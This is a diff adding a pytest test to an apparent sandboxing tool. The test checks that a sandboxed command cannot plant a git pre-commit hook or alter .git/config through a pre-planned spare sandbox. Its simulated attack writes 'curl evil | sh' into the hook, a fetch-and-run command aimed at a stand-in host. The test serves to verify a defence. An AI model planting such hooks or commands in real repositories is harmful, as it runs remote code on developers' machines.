@@ -287,3 +287,19 @@ def test_every_event_is_written_when_a_warm_client_exits(warm, tmp_path, net):
         assert proc.returncode == 4, proc.stderr
         kinds = [json.loads(line)["type"] for line in events.read_text().splitlines()]
         assert kinds[0] == "sandbox_start" and kinds[-1] == "sandbox_exit", kinds
+
+
+def test_a_spare_planned_before_a_repository_appeared_does_not_serve_it(warm, tmp_path):
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    first = corral(warm, "run", "--net", "none", "--", "true", cwd=repo)
+    assert first.returncode == 0, first.stderr  # a spare is planned now, without .git
+    time.sleep(0.5)
+    (repo / ".git" / "hooks").mkdir(parents=True)
+    (repo / ".git" / "config").write_text("[core]\n")
+    attack = corral(warm, "run", "--net", "none", "--", "sh", "-c",
+                    "echo 'curl evil | sh' > .git/hooks/pre-commit; echo pwned >> .git/config",
+                    cwd=repo)
+    assert attack.returncode == 0, attack.stderr
+    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
+    assert (repo / ".git" / "config").read_text() == "[core]\n"
